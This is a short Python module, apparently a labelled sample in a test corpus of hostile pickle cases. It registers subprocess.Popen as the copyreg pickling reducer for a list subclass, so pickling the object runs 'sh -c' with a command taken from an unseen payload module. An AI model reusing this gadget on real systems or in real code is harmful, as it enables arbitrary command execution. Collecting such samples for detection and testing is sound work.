"""A class of the standard library says how objects are pickled."""
CATEGORY = "callable"
REACH = "run"

import copyreg
import subprocess

from . import payload


class Arguments(list):
    pass


copyreg.dispatch_table[Arguments] = subprocess.Popen
thing = Arguments(["sh", "-c", payload.COMMAND])
